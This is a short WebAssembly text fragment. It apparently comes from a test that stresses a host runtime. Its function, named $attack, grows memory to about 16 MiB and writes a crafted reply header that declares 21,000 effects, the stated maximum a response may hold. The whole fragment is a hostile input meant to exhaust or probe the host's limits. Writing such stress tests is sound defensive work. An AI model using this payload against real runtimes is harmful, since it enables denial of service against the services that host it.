;; 21 000 effects, which are there: as many as a response may hold.
(func $attack (param $req i32) (param $len i32) (result i64)
  (drop (memory.grow (i32.const 253))) ;; 16 MiB in all
  (memory.fill (i32.const 131072) (i32.const 0) (i32.const 64))
  (i64.store offset=0 (i32.const 131072) (i64.const 0x10040)) ;; reply
  (i64.store offset=8 (i32.const 131072) (i64.const 0x3000000000)) ;; effect_size 48
  (i64.store offset=16 (i32.const 131072) (i64.const 0x0000520800000040)) ;; 21 000 effects at 64
  (i64.const 0x00020000000f6000))
